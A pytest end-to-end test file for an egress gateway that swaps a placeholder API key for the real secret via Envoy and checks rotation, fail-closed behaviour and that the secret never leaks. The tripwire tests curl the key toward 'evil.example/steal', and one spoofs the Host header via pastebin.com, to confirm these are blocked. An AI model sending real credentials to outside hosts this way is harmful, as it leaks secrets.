"""EgressCredential end to end (issue 16, part 1): `clrk up` in the demo's namespaces, real
curl and python agents through `clrk run`, the real Envoy injecting from an SDS secret
the control plane reads from a file, real HTTPS/HTTP upstreams that log what they got.

- the agent holds the placeholder (placeholderEnv), the upstream gets the secret;
- the tripwire: the placeholder towards another host is answered 403 by Envoy, never
  reaches that host, and leaves one `credential_misuse` record naming the credential;
- rotation: a changed file is in force within 2 s on a connection that stays open;
- the secret's bytes are nowhere the agent or an operator's tools can see: logs,
  records, `clrk get`, status, the policy stream, the agent's environment, Envoy's
  config dump (where the SDS secret shows redacted), the golden files.
"""

from __future__ import annotations

import base64
import json
import os
import secrets
import subprocess
import sys
import textwrap
import time
import uuid
from pathlib import Path

import pytest

from clrk.records.query import iter_records
from clrk_cli.demo.world import World
from tests.e2e.topology import leaks, snapshot

pytestmark = [
    pytest.mark.root,
    pytest.mark.skipif(os.geteuid() != 0, reason="needs root: network namespaces and iptables"),
]

REPO = Path(__file__).resolve().parents[2]
ENV = {**os.environ, "PYTHONPATH": str(REPO)}
PLACEHOLDER = "clrk-placeholder-anthropic-key"
# A deny message Envoy must not read as its own formatter or mangle as bytes.
MESSAGE = "100% blocked, café %REQ(:path)% 50%25"

POLICY = """\
apiVersion: clrk.apoxy.dev/v1alpha1
kind: EgressGateway
metadata: {{name: egress}}
spec:
  listeners:
  - {{name: tls-term, protocol: TLS, port: 443, tls: {{mode: Terminate}}}}
  - {{name: web, protocol: HTTP, port: 80}}
---
apiVersion: clrk.apoxy.dev/v1alpha1
kind: EgressL4Route
metadata: {{name: anthropic}}
spec:
  parentRefs: [{{name: egress}}]
  rules: [{{matches: [{{destinationHostnames: [api.anthropic.com, pastebin.com]}}]}}]
---
apiVersion: clrk.apoxy.dev/v1alpha1
kind: EgressL4Route
metadata: {{name: elsewhere}}
spec:
  parentRefs: [{{name: egress}}]
  rules: [{{matches: [{{destinationHostnames: [evil.example]}}]}}]
---
apiVersion: clrk.apoxy.dev/v1alpha1
kind: EgressCredential
metadata: {{name: anthropic-key}}
spec:
  targetRef: {{group: clrk.apoxy.dev, kind: EgressL4Route, name: anthropic}}
  hostnames: [api.anthropic.com]
  header: x-api-key
  placeholder: {placeholder}
  placeholderEnv: ANTHROPIC_API_KEY
  source: {{file: {secret}}}
---
apiVersion: clrk.apoxy.dev/v1alpha1
kind: EgressL4Route
metadata: {{name: internal}}
spec:
  parentRefs: [{{name: egress, sectionName: web}}]
  rules: [{{matches: [{{destinationHostnames: [pg.prod.internal]}}]}}]
---
apiVersion: clrk.apoxy.dev/v1alpha1
kind: EgressDenyPolicy
metadata: {{name: internal-only}}
spec:
  targetRef: {{name: internal}}
  denyResponse: {{statusCode: 403, message: "{message}"}}
---
apiVersion: clrk.apoxy.dev/v1alpha1
kind: DaemonAgent
metadata: {{name: bot}}
spec: {{egressRefs: [{{gatewayRef: egress}}]}}
"""

# Runs in the agent: requests on ONE keep-alive connection (auto_open=0: a dropped
# connection raises instead of reconnecting), one JSON line per response.
KEEPALIVE_CLIENT = textwrap.dedent("""
    import http.client, json, os, sys, time
    conn = http.client.HTTPSConnection("api.anthropic.com", timeout=10)
    conn.connect()
    conn.auto_open = 0
    deadline = time.time() + float(sys.argv[1])
    i = 0
    while time.time() < deadline:
        conn.request("GET", f"/rotate/{sys.argv[2]}/{i}",
                     headers={"x-api-key": os.environ["ANTHROPIC_API_KEY"]})
        response = conn.getresponse()
        response.read()
        print(json.dumps({"i": i, "at": time.time(), "status": response.status}), flush=True)
        i += 1
        time.sleep(0.05)
""")


def clrk(*args: str) -> list[str]:
    return [sys.executable, "-m", "clrk_cli", *args]


@pytest.fixture(scope="module")
def gw(tmp_path_factory):
    work = tmp_path_factory.mktemp("credentials")
    before = snapshot()
    state = work / "state"
    secret_dir = work / "secrets"
    secret_dir.mkdir(mode=0o700)
    secret_file = secret_dir / "anthropic-key"
    value = "sk-ant-" + secrets.token_hex(16)
    secret_file.write_text(value + "\n")
    manifests = work / "manifests"
    manifests.mkdir()
    (manifests / "policy.yaml").write_text(
        POLICY.format(placeholder=PLACEHOLDER, secret=secret_file, message=MESSAGE)
    )
    with World(work, log_requests=True) as world:
        proc = world.start_in_host(
            clrk("up", "-f", str(manifests), "--state-dir", str(state),
                 "--upstream-ca", str(world.certs["ca"])),
            log=work / "up.log",
        )  # fmt: skip
        assert world.wait_line(proc, "clrk ready", 60), (work / "up.log").read_text()[-3000:]
        yield {
            "world": world, "state": state, "work": work, "secret_file": secret_file,
            "secret": value, "every_secret": [value], "servers": work / "servers.jsonl",
        }  # fmt: skip
    assert not leaks(before, snapshot())


def run_as_bot(gw, *argv: str, timeout: float = 60) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        clrk("run", "--agent", "default/bot", "--state-dir", str(gw["state"]), "--", *argv),
        capture_output=True, text=True, timeout=timeout, env=ENV,
    )  # fmt: skip


def in_host(gw, *argv: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        ["ip", "netns", "exec", gw["world"].host, *argv],
        capture_output=True, text=True, timeout=60, env=ENV,
    )  # fmt: skip


def server_log(gw) -> list[dict]:
    return [json.loads(line) for line in gw["servers"].read_text().splitlines() if line]


def requests_seen(gw, marker: str) -> list[str]:
    """The heads of the requests upstreams received whose request line has `marker`."""
    return [e["head"] for e in server_log(gw) if e["kind"] == "request" and marker in e["head"]]


def http_records(gw, path: str, wait: float = 5.0) -> list[dict]:
    """The egress.http spans of requests to `path` (the writer batches: wait for one)."""
    deadline = time.monotonic() + wait
    while True:
        found = [
            r
            for r in iter_records(str(gw["state"] / "records.jsonl"))
            if r["name"] == "egress.http"
            and r["signal"] == "span"
            and r["attributes"].get("url.path") == path
        ]
        if found or time.monotonic() > deadline:
            time.sleep(0.3)  # a second one would show by now
            return [
                r
                for r in iter_records(str(gw["state"] / "records.jsonl"))
                if r["name"] == "egress.http"
                and r["signal"] == "span"
                and r["attributes"].get("url.path") == path
            ]
        time.sleep(0.1)


def curl_as_bot(gw, url: str, *headers: str) -> tuple[int, str, str]:
    """(status, x-clrk-deny-reason, stderr) of one curl from the agent; each header may
    use $ANTHROPIC_API_KEY, expanded by the agent's own shell."""
    args = " ".join(f'-H "{h}"' for h in headers)
    script = f'curl -sS --max-time 10 -o /dev/null -D - -w "%{{http_code}}" {args} "{url}"'
    out = run_as_bot(gw, "sh", "-c", script)
    lines = out.stdout.splitlines()
    reason = next(
        (
            line.split(":", 1)[1].strip()
            for line in lines
            if line.lower().startswith("x-clrk-deny-reason:")
        ),
        "",
    )
    status = lines[-1].strip() if lines else ""
    return int(status) if status.isdigit() else 0, reason, out.stderr + out.stdout


def test_the_agent_holds_the_placeholder_and_the_upstream_gets_the_secret(gw) -> None:
    env = run_as_bot(gw, "sh", "-c", 'echo "$ANTHROPIC_API_KEY"')
    assert env.stdout.strip() == PLACEHOLDER, env.stderr
    for scheme in ("https", "http"):
        path = f"/v1/messages/{scheme}-{uuid.uuid4().hex}"
        status, _reason, err = curl_as_bot(
            gw, f"{scheme}://api.anthropic.com{path}", "x-api-key: $ANTHROPIC_API_KEY"
        )
        assert status == 200, err
        (head,) = requests_seen(gw, path)
        assert f"x-api-key: {gw['secret']}\r\n" in head
        assert PLACEHOLDER not in head
        (record,) = http_records(gw, path)
        assert record["attributes"]["clrk.egress.credential"] == "default/anthropic-key"
        assert record["attributes"]["clrk.egress.route"] == "default/anthropic"


def test_whatever_the_agent_sends_in_the_header_is_replaced(gw) -> None:
    path = f"/v1/forged-{uuid.uuid4().hex}"
    status, _reason, err = curl_as_bot(
        gw, f"https://api.anthropic.com{path}", "x-api-key: sk-ant-the-agents-own-guess"
    )
    assert status == 200, err
    (head,) = requests_seen(gw, path)
    assert "sk-ant-the-agents-own-guess" not in head and gw["secret"] in head


@pytest.mark.parametrize(
    ("url", "header"),
    [
        ("https://evil.example/steal", "x-api-key: $ANTHROPIC_API_KEY"),
        ("http://evil.example/steal", "Authorization: Bearer $ANTHROPIC_API_KEY"),
    ],
)
def test_the_tripwire_answers_403_and_records_credential_misuse(gw, url: str, header) -> None:
    url = f"{url}-{uuid.uuid4().hex}"
    path = "/" + url.split("/", 3)[3]
    status, reason, err = curl_as_bot(gw, url, header)
    assert (status, reason) == (403, "credential_misuse"), err
    assert requests_seen(gw, path) == []  # it never reached the upstream
    (record,) = http_records(gw, path)
    print("\ncredential_misuse record:", json.dumps(record, sort_keys=True))
    attrs = record["attributes"]
    assert attrs["clrk.egress.deny_reason"] == "credential_misuse"
    assert attrs["clrk.egress.credential"] == "default/anthropic-key"
    assert attrs["clrk.http.authority"] == "evil.example"
    assert (attrs["agent.namespace"], attrs["agent.name"]) == ("default", "bot")
    assert attrs["http.response.status_code"] == 403
    # The agent can still use that host without the placeholder.
    assert curl_as_bot(gw, url)[0] == 200


def test_a_host_header_alone_does_not_get_the_secret_sent_elsewhere(gw) -> None:
    """Over plain HTTP the agent picks the Host; the name its connection's address was
    resolved from (pastebin.com, allowed by the same route) must be the credential's
    too, else nothing is injected."""
    path = f"/host-spoof-{uuid.uuid4().hex}"
    status, _reason, err = curl_as_bot(
        gw,
        f"http://pastebin.com{path}",
        "Host: api.anthropic.com",
        "x-api-key: $ANTHROPIC_API_KEY",
    )
    assert status == 200, err
    (head,) = requests_seen(gw, path)
    assert not any(secret in head for secret in gw["every_secret"])


def test_a_deny_message_with_percent_signs_and_non_ascii_arrives_intact(gw) -> None:
    out = run_as_bot(gw, "curl", "-sS", "--max-time", "10", "http://pg.prod.internal/x")
    assert out.stdout == MESSAGE, out.stderr


def test_a_rotated_secret_is_in_force_within_2s_on_an_open_connection(gw) -> None:
    marker = uuid.uuid4().hex
    agent = subprocess.Popen(
        clrk("run", "--agent", "default/bot", "--state-dir", str(gw["state"]), "--",
             "python3", "-c", KEEPALIVE_CLIENT, "8", marker),
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=ENV,
    )  # fmt: skip
    try:
        assert agent.stdout is not None
        first = json.loads(agent.stdout.readline() or "{}")
        assert first.get("status") == 200, agent.stderr.read() if agent.stderr else ""
        time.sleep(0.5)
        rotated = "sk-ant-rotated-" + secrets.token_hex(16)
        gw["secret_file"].write_text(rotated + "\n")
        at = time.time()
        out, err = agent.communicate(timeout=30)
    finally:
        if agent.poll() is None:
            agent.kill()
            agent.wait()
    try:
        assert agent.returncode == 0, err  # never reconnected: auto_open=0 would raise
        lines = [first, *(json.loads(line) for line in out.splitlines())]
        assert all(line["status"] == 200 for line in lines)
        heads = {int(h.split(f"/rotate/{marker}/", 1)[1].split(" ", 1)[0]): h
                 for h in requests_seen(gw, f"/rotate/{marker}/")}  # fmt: skip
        new = sorted(i for i, h in heads.items() if rotated in h)
        assert new, "the rotated secret never reached the upstream"
        in_force = next(line["at"] for line in lines if line["i"] == new[0]) - at
        print(f"\nrotation in force after {in_force:.2f} s on one connection")
        assert in_force <= 2.0
        assert new == list(range(new[0], max(heads) + 1))  # and stays in force
    finally:
        gw["secret"] = rotated
        gw["every_secret"].append(rotated)


def test_an_unreadable_secret_fails_the_request_closed_until_it_is_back(gw) -> None:
    def until(expected: int) -> tuple[int, str]:
        deadline = time.monotonic() + 10
        while True:
            marker = f"/unreadable-{uuid.uuid4().hex}"
            got = curl_as_bot(
                gw, f"https://api.anthropic.com{marker}", "x-api-key: $ANTHROPIC_API_KEY"
            )[0]
            if got == expected or time.monotonic() > deadline:
                return got, marker
            time.sleep(0.3)

    away = gw["secret_file"].with_suffix(".away")
    gw["secret_file"].rename(away)
    try:
        got, marker = until(401)
        assert got == 401
        assert requests_seen(gw, marker) == []  # never sent without the credential
    finally:
        away.rename(gw["secret_file"])
    assert until(200)[0] == 200
    log = (gw["state"] / "logs" / "control-plane.log").read_text()
    assert "credential.unreadable" in log


def test_the_secret_is_in_no_log_record_listing_status_stream_env_or_config_dump(gw) -> None:
    from clrk_cli.credential_env import gateway_credentials
    from clrk_cli.embedded.run_sandbox import read_info

    def forms(value: str) -> list[bytes]:
        raw = value.encode()
        return [raw, base64.b64encode(raw), value[8:].encode()]  # a tail too, for cut text

    secrets_seen = gw["every_secret"]
    places: dict[str, bytes] = {}
    for path in [gw["work"] / "up.log", *gw["state"].rglob("*")]:
        if path.is_file() and path.suffix in (".log", ".jsonl", ".json", ".yaml", ".txt", ""):
            places[str(path)] = path.read_bytes()
    state = ("--state-dir", str(gw["state"]))
    places["clrk get"] = in_host(gw, *clrk("get", "all", "-o", "json", *state)).stdout.encode()
    places["status"] = in_host(gw, "curl", "-sS", "http://127.0.0.1:18001/status").stdout.encode()
    dump = in_host(gw, "curl", "-sS", "http://127.0.0.1:19000/config_dump?include_eds")
    places["envoy config dump"] = dump.stdout.encode()
    info = read_info(gw["state"] / "up.json")
    credentials = gateway_credentials(info["control_plane"], info["gateway"])
    places["policy stream"] = repr(credentials).encode()
    places["agent env"] = run_as_bot(gw, "env").stdout.encode()
    golden = REPO / "tests" / "golden"
    places["golden files"] = b"".join(p.read_bytes() for p in golden.rglob("*") if p.is_file())
    assert b"genericSecret" not in places["golden files"]  # no value, not even a made-up one
    assert [c.ref for c in credentials] == ["default/anthropic-key"]
    assert PLACEHOLDER.encode() in places["agent env"]
    for name, text in places.items():
        for secret in secrets_seen:
            assert not any(form in text for form in forms(secret)), f"the secret is in {name}"
    # Envoy holds it as an SDS secret, shown redacted; the listener names it only.
    config = json.loads(dump.stdout)
    secrets_section = next(c for c in config["configs"] if "SecretsConfigDump" in c["@type"])
    (active,) = [
        s for s in secrets_section["dynamic_active_secrets"]
        if s["name"] == "credential/default/anthropic-key"
    ]  # fmt: skip
    assert "[redacted]" in json.dumps(active) or "W3JlZGFjdGVkXQ==" in json.dumps(active)
    assert '"credential/default/anthropic-key"' in dump.stdout  # named in the listener
